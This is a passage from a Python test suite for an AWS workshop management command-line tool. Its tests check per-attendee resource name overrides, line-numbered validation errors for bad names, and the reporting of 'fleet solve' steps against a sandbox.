    assert ann["error"].startswith(
        "no base credentials to assume arn:aws:iam::111111111111:role/WorkshopAdmin"
    )


# ---------------------------------------------------------------------- names and truthful solves


def test_resource_names_in_the_targets_file(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "room.yaml",
        """\
defaults:
  profile: room
  primary_stack: room-mm
attendees:
  - name: ann
  - name: bo
    secondary_stack: bo-standby
    table: bo-ddbtable
  - name: cy
    dashboard: cy_Dashboard
""",
    )
    ann, bo, cy = load_targets(path)
    assert ann.spec.name_overrides == {"primary_stack": "room-mm"}
    assert bo.spec.name_overrides == {
        "primary_stack": "room-mm",
        "secondary_stack": "bo-standby",
        "table": "bo-ddbtable",
    }
    assert cy.spec.name_overrides == {"primary_stack": "room-mm", "dashboard": "cy_Dashboard"}


def test_bad_resource_names_are_each_named_by_line(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "room.yaml",
        """\
defaults:
  profile: room
  primary_stack: 9-lives
attendees:
  - name: ann
    table: "t"
  - name: bo
    secondary_stack: bo_standby
    dashboard: "bo dashboard"
""",
    )
    result = invoke("fleet", "check", "--targets", str(path))
    assert result.code == ExitCode.USAGE
    lines = result.stderr.removeprefix("mmtui: ").splitlines()
    assert lines == [
        f"{path}:3: ann: primary_stack: '9-lives' is not a valid stack name (1 to 128 letters, "
        "digits and hyphens, starting with a letter)",
        f"{path}:3: bo: primary_stack: '9-lives' is not a valid stack name (1 to 128 letters, "
        "digits and hyphens, starting with a letter)",
        f"{path}:6: ann: table: 't' is not a valid DynamoDB table name (3 to 255 letters, "
        "digits, underscores, hyphens and dots)",
        f"{path}:8: bo: secondary_stack: 'bo_standby' is not a valid stack name (1 to 128 "
        "letters, digits and hyphens, starting with a letter)",
        f"{path}:9: bo: dashboard: 'bo dashboard' is not a valid CloudWatch dashboard name (1 "
        "to 255 letters, digits, hyphens and underscores)",
    ]


def test_fleet_solve_uses_the_names_and_says_what_still_fails(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """Step 1 under the attendee's own secondary stack name; then step 4 before step 3 is
    not `done`: its cell is the failing status, the note says what still fails, exit 1."""
    path = room(
        tmp_path,
        sandbox.url,
        "  - name: ann\n    secondary_stack: ann-standby\n",
        keys=sandbox.credentials(),
    )
    code, document, stderr = fleet("solve", "--targets", str(path), "--step", "1")
    assert code == ExitCode.OK, stderr
    assert cells(by_name(document)["ann"]) == {"infrastructure": "done"}
    stacks = sandbox.client("cloudformation", "us-east-1").describe_stacks()["Stacks"]
    assert [s["StackName"] for s in stacks] == ["ann-standby"]

    code, document, stderr = fleet("solve", "--targets", str(path), "--step", "4")
    assert code == ExitCode.CHECK_FAILED, stderr
    ann = by_name(document)["ann"]
    assert cells(ann) == {"build-artifacts": "fail"}
    assert ann["steps"][0]["done"], "the buildspecs were pushed"
    assert "not done: build-artifacts: The pipelines have not deployed" in ann["error"]
